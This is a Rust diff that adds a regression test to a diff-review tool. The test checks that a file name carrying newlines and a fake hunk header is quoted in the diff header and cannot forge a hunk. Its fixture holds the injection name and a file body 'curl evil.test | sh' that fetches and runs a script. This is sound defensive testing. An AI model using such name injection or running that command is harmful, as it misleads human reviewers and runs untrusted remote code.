@@ -35,3 +35,20 @@ fn only_listed_paths_are_read_and_what_a_deleted_directory_held_is_gone() {
     assert!(read("nothing").unwrap_err().message.contains("not a change"));
     assert!(crate::review::content::diff(&f.set, &f.ws.join("gone/a")).unwrap().contains("-a"));
 }
+
+// Found by an attacker's review: a file named `notes.txt\n@@ -0,0 +1 @@\n+just a note` made
+// `sandspawn review diff` print a forged hunk above the real one (the header held the raw name).
+#[test]
+fn a_name_with_control_characters_is_quoted_in_the_diff_header() {
+    let f = fixture();
+    let name = "notes.txt\n@@ -0,0 +1 @@\n+just a harmless note";
+    put(&f.set.upper(0), name, "curl evil.test | sh\n");
+    let diff = crate::review::content::diff(&f.set, &f.ws.join(name)).unwrap();
+    let lines: Vec<&str> = diff.lines().collect();
+    assert_eq!(lines.len(), 4, "one header line per side, one hunk, one added line: {diff:?}");
+    assert_eq!(lines[0], "--- /dev/null");
+    assert_eq!(lines[1], format!("+++ \"b{}/notes.txt\\n@@ -0,0 +1 @@\\n+just a harmless note\"", f.ws.display()));
+    assert_eq!(lines[3], "+curl evil.test | sh");
+    assert_eq!(super::super::content::header_path("a", std::path::Path::new("/w/x\"y\\z\t")), "\"a/w/x\\\"y\\\\z\\t\"");
+    assert_eq!(super::super::content::header_path("b", std::path::Path::new("/w/plain \\xff")), "b/w/plain \\xff", "no control character: as shown");
+}
